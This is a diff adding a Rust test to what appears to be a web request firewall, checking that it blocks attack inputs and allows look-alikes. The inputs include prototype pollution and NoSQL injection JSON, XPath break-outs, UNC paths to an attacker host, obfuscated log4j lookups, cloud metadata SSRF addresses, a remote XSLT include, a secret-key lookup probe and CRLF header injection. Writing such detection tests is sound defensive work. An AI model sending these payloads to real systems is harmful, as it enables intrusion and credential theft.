@@ -1410,3 +1410,89 @@ fn numbered_copies_of_files_are_not_calls() {
         });
     }
 }
+
+/// Families written from their grammar for `threat-precision7`, each beside its look-alike:
+/// prototype pollution through nested JSON members, NoSQL operators in a JSON document sent
+/// as a string, XPath predicate break-outs, UNC paths, log4j's own lookups, CR/LF spelled
+/// with characters a truncating server writes as CR LF, cloud metadata addresses in other
+/// notations, XSLT instructions.
+#[test]
+fn other_families_versus_their_look_alikes() {
+    let json = "application/json";
+    for body in [
+        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
+        r#"{"user":{"settings":{"constructor":{"prototype":{"polluted":1}}}}}"#,
+        r#"{"q":"{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}"}"#,
+        r#"{"filter":"{'$where': 'sleep(5000) || true'}"}"#,
+        r#"{"search":"{ \"name\" : { \"$regex\" : \"^adm\" } }"}"#,
+    ] {
+        let a = body_request(json, body);
+        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
+    }
+    for body in [
+        r#"{"constructor":{"name":"Acme Builders","country":"DE"}}"#,
+        r#"{"product":{"prototype":true,"stage":"beta","constructor":"Acme"}}"#,
+        r#"{"prototype":{"id":3,"name":"v2 board"}}"#,
+        r#"{"note":"Save $5, $10 or more: {$name}, your order is {$status}"}"#,
+        r#"{"query":"{\"name\":\"Ann\",\"tags\":[\"$in-store\"]}"}"#,
+    ] {
+        let a = body_request(json, body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
+    }
+    for attack in [
+        "']/../user[position()=1]/password['",
+        "x'] | //user/*[contains(*,'",
+        "\")]/following::*[(\"",
+        "\\\\10.0.0.5\\share\\payload.dll",
+        "\\\\files.attacker.example@SSL@443\\dav\\report.docx",
+        "${sys:java.version}",
+        "${lower:j}${lower:n}${lower:d}${lower:i}",
+        "${upper:j}ndi",
+        "http://2852039166/latest/meta-data/",
+        "http://0xa9fea9fe/latest/meta-data/iam/",
+        "http://0251.0376.0251.0376/latest/",
+        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
+        "http://169.254.43518/computeMetadata/v1/",
+        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+        "<xsl:include href=\"http://203.0.113.9/x.xsl\"/>",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+    for text in [
+        "total = row['sum']/row['count']",
+        "$..book[?(@.price < 10)]",
+        "\\\\fileserver\\reports\\2024\\q3.xlsx",
+        "Use ${env:PATH} or $env:PATH in PowerShell",
+        "Spring reads ${server.port:8080} and ${spring.profiles.active}",
+        "Version 2852039166 of the schema",
+        "The <xsl:value-of> element writes a node's text",
+        "嘊嘍 are rare characters",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+    // `${env:` counts at paranoia 1 in a header, where Log4Shell probes go.
+    let a = header_request("x-api-version", "${env:AWS_SECRET_ACCESS_KEY}");
+    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
+    let engine = Config::default().compile().unwrap();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for (query, verdict) in [
+        (
+            "next=%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil",
+            Verdict::Block,
+        ),
+        (
+            "r=%E5%98%8D%E5%98%8ALocation:%20http://evil.example/",
+            Verdict::Block,
+        ),
+        ("q=%E5%98%8A%E5%98%8D", Verdict::Allow),
+        ("q=%E5%98%8A%20Location%20of%20the%20store", Verdict::Allow),
+    ] {
+        let uri = format!("/search?{query}");
+        let a = engine.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, verdict, "{query}: {a:?}");
+    }
+}
